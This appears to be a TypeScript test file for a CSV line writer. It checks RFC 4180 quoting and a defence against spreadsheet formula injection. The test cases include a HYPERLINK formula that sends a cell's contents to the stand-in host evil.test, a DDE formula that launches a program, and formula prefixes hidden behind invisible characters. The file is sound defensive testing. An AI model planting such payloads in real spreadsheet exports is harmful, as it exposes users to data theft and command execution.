import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv-line.ts';

/** A line read as RFC 4180 says. */
const readLine = (line: string): string[] =>
  [...line.slice(0, -2).matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );

describe('a line of CSV', () => {
  it.each<[string, string | number | null, string]>([
    ['a name', 'Acme Writer', 'Acme Writer'],
    ['nothing', null, ''],
    ['an amount', 0.000125, '0.000125'],
    ['an amount below nothing', -2, '-2'],
    ['a time', '2026-11-23T08:00:00Z', '2026-11-23T08:00:00Z'],
    ['a model', 'openai/gpt-4o-mini', 'openai/gpt-4o-mini'],
    ['a comma', 'Ada, Bob', '"Ada, Bob"'],
    ['a semicolon, which separates elsewhere', 'a;=1', '"a;=1"'],
    ['quotes', 'the "app"', '"the ""app"""'],
    ['a line break', 'a\r\n=1', '"a\r\n=1"'],
    ['a formula', '=1+1', `"'=1+1"`],
    [
      'a link that sends a cell away',
      '=HYPERLINK("http://evil.test/"&A1,"x")',
      `"'=HYPERLINK(""http://evil.test/""&A1,""x"")"`,
    ],
    ['a program', "=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['a plus', '+1', `"'+1"`],
    ['a minus in text', '-1+1|cmd', `"'-1+1|cmd"`],
    ['an at', '@SUM(A1)', `"'@SUM(A1)"`],
    ['a tab before one', '\t=1', `"'\t=1"`],
    ['a carriage return', '\r=1', `"'\r=1"`],
    ['blanks before one', '  =1', `"'  =1"`],
    ['a no-break space before one', '\u00a0=1', `"'\u00a0=1"`],
    ['a mark of byte order before one', '\ufeff=1', `"'\ufeff=1"`],
    ['a NUL before one', '\0=1', `"'\0=1"`],
    ['one in full width', '＝1', `"'＝1"`],
  ])('with %s', (_name, value, expected) => {
    expect(csvLine([value])).toBe(`${expected}\r\n`);
  });

  it('is read as the fields that were written, and none of them as a formula, whatever they hold', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', minLength: 1 }),
      fc.string({ unit: fc.constantFrom(...'=+-@",;\t\r\n a'), minLength: 1 }),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (fields) => {
        const read = readLine(csvLine(fields));
        expect(read.map((field, at) => (field === `'${fields[at]}` ? fields[at] : field))).toEqual(fields);
        for (const field of read) expect(field).not.toMatch(/^[\s\0]*[=+\-@]/);
      }),
    );
  });
});
